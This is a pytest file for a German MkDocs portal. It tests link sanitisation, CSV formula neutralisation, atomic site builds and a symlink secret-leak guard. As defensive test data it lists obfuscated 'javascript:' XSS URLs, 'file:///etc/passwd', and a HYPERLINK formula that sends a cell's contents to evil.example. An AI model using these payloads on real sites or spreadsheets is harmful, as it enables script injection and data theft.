"""Nothing an editor writes runs, loads from another host, breaks a spreadsheet or a half-built site.

Unit tests of the address rules (``portal.links``) and the renderer (``portal.markup``), a property
test that no Markdown, however built, yields a script link or a foreign image once a browser-like
HTML parser reads the output, a real build of names that look like formulas or markup, and the
staging folder that keeps ``site/`` whole when a build fails.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from conftest import Build, builds, mini_project, mini_variant, run_build
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.exports import spreadsheet_safe
from portal.links import classify, image_target
from portal.markup import refused_links, render_prose

# --- addresses as the browser reads them ------------------------------------------------------


@pytest.mark.parametrize(("written", "kind"), [
    ("javascript:alert(1)", "refused"),
    ("javascript&colon;alert(1)", "refused"),
    ("javascript&#58;alert(1)", "refused"),
    ("javascript&#x3A;alert(1)", "refused"),
    ("&#106;avascript:alert(1)", "refused"),
    ("java\tscript:alert(1)", "refused"),
    ("java\nscript:alert(1)", "refused"),
    ("\x01 javascript:alert(1)", "refused"),
    ("JaVaScRiPt:alert(1)", "refused"),
    ("vbscript:msgbox(1)", "refused"),
    ("data:text/html,<script>alert(1)</script>", "refused"),
    ("file:///etc/passwd", "refused"),
    ("C:\\Users\\a.docx", "refused"),
    ("//evil.example/x", "refused"),
    ("/\\evil.example/x", "refused"),
    ("\\\\evil.example/x", "refused"),
    ("&#47;/evil.example/x", "refused"),
    ("https:evil.example/x", "refused"),
    ("https:/evil.example/x", "refused"),
    ("https:///x", "refused"),
    ("https://example.org/a?b=1&c=2", "web"),
    ("http://example.org", "web"),
    ("HTTPS://example.org", "web"),
    ("https:\\\\example.org", "web"),  # a browser reads the backslashes as slashes
    ("mailto:presse@example.org", "mail"),
    ("../../partner/stadt-test/", "site"),
    ("/massnahmen/", "site"),
    ("#ziele", "site"),
    ("javascript&amp;colon;alert(1)", "site"),  # decoded once: "javascript&colon;…" has no scheme
    ("%6Aavascript:alert(1)", "site"),           # percent-encoding is never decoded in a scheme
])
def test_addresses_are_classified_as_the_browser_reads_them(written: str, kind: str) -> None:
    assert classify(written).kind == kind


@pytest.mark.parametrize("written", ["https://example.org/logo.png", "//example.org/a.png", "mailto:a@b.c", "data:image/png;base64,AAAA"])
def test_images_come_only_from_the_site(written: str) -> None:
    assert image_target(written).kind == "refused"
    assert image_target("../../assets/logo.png").kind == "site"


def test_refused_links_say_what_the_browser_would_see() -> None:
    [refusal] = refused_links("Text [Klick](javascript&colon;alert(document.domain)) mehr")
    assert refusal.what == "Link" and refusal.written == "javascript&colon;alert(document.domain)"
    assert refusal.target.url == "javascript:alert(document.domain)"
    assert "Programmcode" in refusal.target.reason
    assert refused_links("[ok](https://example.org) ohne Klammern") == []
    assert refused_links("kein Link, nur & und Text") == []


def test_renderer_shows_refused_targets_as_text() -> None:
    html = str(render_prose("![Logo](https://tracker.example/p.png) [ok](https://example.org) [x](javascript&#58;alert(1)) <b>fett</b>"))
    soup = BeautifulSoup(html, "html.parser")
    assert soup.find("img") is None and "[Bild: Logo]" in soup.get_text()
    assert [a.get("href") for a in soup.find_all("a")] == ["https://example.org", None]
    assert "<b>fett</b>" in soup.get_text()


# Pieces a malicious or careless editor combines into link targets.
URL_PIECES = ["javascript", "JAVASCRIPT", "java", "script", ":", "&colon;", "&#58;", "&#x3a;", "&#106;", "&#47;", "/", "\\",
              "&#92;", "\t", "&#9;", "&#10;", " ", "evil.example", "https", "http", "data", "vbscript", "mailto", "alert(1)",
              "&amp;", "&", "#", "%0a", "\x01"]


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(pieces=st.lists(st.sampled_from(URL_PIECES), min_size=1, max_size=8), image=st.booleans(),
       form=st.sampled_from(["inline", "angle", "reference"]))
def test_no_markdown_yields_a_script_link_or_a_foreign_image(pieces: list[str], image: bool, form: str) -> None:
    url = "".join(pieces)
    bang = "!" if image else ""
    text = {"inline": f"{bang}[x]({url})", "angle": f"{bang}[x](<{url}>)", "reference": f"{bang}[x][r]\n\n[r]: {url}"}[form]
    # Read the output with an HTML parser, as the browser will: entities decoded, attributes split.
    soup = BeautifulSoup(str(render_prose(text)), "html.parser")
    for link in soup.find_all("a", href=True):
        assert classify(link["href"], decoded=True).kind != "refused", (text, link)
    for img in soup.find_all("img", src=True):
        assert image_target(img["src"], decoded=True).kind == "site", (text, img)
    assert not soup.find_all(lambda tag: any(name.startswith("on") for name in tag.attrs))


# --- spreadsheets --------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "safe"), [
    ('=HYPERLINK("https://evil.example/?"&A1,"Details")', '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'),
    ("+49 211 123", "'+49 211 123"), ("-2 Prozent", "'-2 Prozent"), ("@Kammer", "'@Kammer"), ("  =1+1", "'  =1+1"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Stadt = Gemeinde", "Stadt = Gemeinde"), ("", ""), (-5, -5), (3.5, 3.5),
])
def test_spreadsheet_cells_never_start_a_formula(cell: object, safe: object) -> None:
    assert spreadsheet_safe(cell) == safe


@pytest.fixture(scope="module")
@builds
def tricky_site(tmp_path_factory: pytest.TempPathFactory) -> Build:
    """The mini fixture with names that look like formulas and an ampersand in a title."""
    build = mini_variant(
        tmp_path_factory.mktemp("tricky"),
        ("measures/glasfaser.yaml", "title: Glasfaser bis 2020", 'title: \'=HYPERLINK("https://evil.example/?"&A1,"Details")\''),
        ("organisations/stadt-test.yaml", "name: Stadt Test", 'name: "@Stadt Test"'),
        ("initiatives/masterplan-test.yaml", "title: Masterplan Test", "title: Masterplan Test & AT&T"))
    assert build.returncode == 0, build.output
    return build


def test_csv_cells_that_look_like_formulas_are_text(tricky_site: Build) -> None:
    raw = (tricky_site.site / "daten/massnahmen.csv").read_text(encoding="utf-8-sig")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw), delimiter=";")}
    assert rows["glasfaser"]["titel"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Details")'
    assert rows["glasfaser"]["verantwortlich"] == "'@Stadt Test"
    for row in rows.values():
        assert not any(str(value).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values()), row
    # The page itself shows the title as the editor wrote it.
    assert tricky_site.html("massnahmen/glasfaser/").find("h1").get_text() == '=HYPERLINK("https://evil.example/?"&A1,"Details")'


def test_a_title_means_the_same_text_in_every_place(tricky_site: Build) -> None:
    title = "Masterplan Test & AT&T"
    page = tricky_site.html("initiativen/masterplan-test/")
    assert page.title.get_text() == f"{title} (MPT) - Industrie-Initiativen NRW"  # the browser tab (Material's <title>)
    assert page.find("h1").get_text(" ", strip=True).startswith(title)  # the portal's heading
    assert page.select_one(".md-header__topic:last-child").get_text(strip=True) == f"{title} (MPT)"  # Material's header
    # The search (Pagefind) takes titles from this page's HTML: the same text, found as the reader sees it.


# --- a failed build leaves site/ as it was -------------------------------------------------------


@pytest.fixture()
def built_project(tmp_path: Path, mini_site: Build) -> Path:
    """A copy of the mini project with the site of a good build (mini_site's: the same project and date)."""
    return Path(shutil.copytree(mini_site.root, tmp_path / "project", symlinks=True))


@pytest.mark.parametrize("failure", ["template", "strict-warning"])
def test_a_failed_build_leaves_the_previous_site_whole(built_project: Path, failure: str) -> None:
    before = sorted(p.relative_to(built_project / "site").as_posix() for p in (built_project / "site").rglob("*"))
    if failure == "template":
        # An error while rendering, after MkDocs has started writing pages.
        topic = built_project / "overrides" / "topic.html"
        topic.write_text(topic.read_text(encoding="utf-8").replace("{% block content %}", "{% block content %}{{ nope() }}"), encoding="utf-8")
    else:
        # A broken link in a Markdown page: a warning, which --strict turns into failure after writing everything.
        (built_project / "docs" / "kaputt.md").write_text("# Kaputt\n\n[weg](gibt-es-nicht.md)\n", encoding="utf-8")
    build = run_build(built_project)
    assert build.returncode != 0
    after = sorted(p.relative_to(built_project / "site").as_posix() for p in (built_project / "site").rglob("*"))
    assert after == before
    assert not (built_project / "site" / "kaputt").exists()


def test_a_good_build_replaces_the_site_and_leaves_no_staging_folder(built_project: Path) -> None:
    (built_project / "site" / "veraltet.html").write_text("alt", encoding="utf-8")
    (built_project / ".site.neu").mkdir()  # left over from a build that was killed
    (built_project / ".site.neu" / "halb.html").write_text("halb", encoding="utf-8")
    assert run_build(built_project).returncode == 0
    assert not (built_project / "site" / "veraltet.html").exists()
    assert (built_project / "site" / "index.html").exists()
    assert sorted(p.name for p in built_project.iterdir() if p.name.startswith(".site")) == []


@pytest.mark.build
def test_build_output_never_shows_a_linked_file(tmp_path: Path) -> None:
    root = mini_project(tmp_path)
    secret = tmp_path.parent / f"{tmp_path.name}-geheim.yaml"
    secret.write_text("name: GEHEIMER INHALT\n", encoding="utf-8")
    (root / "data" / "topics" / "geheim.yaml").symlink_to(secret)
    build = run_build(root)
    assert build.returncode != 0
    assert "data/topics/geheim.yaml:1:1: ist eine symbolische Verknüpfung (Symlink)" in build.output
    assert "GEHEIMER INHALT" not in build.output
    assert not (root / "site").exists() or "GEHEIMER" not in "".join(
        p.read_text(encoding="utf-8", errors="replace") for p in (root / "site").rglob("*.html"))
    shutil.rmtree(root / "site", ignore_errors=True)

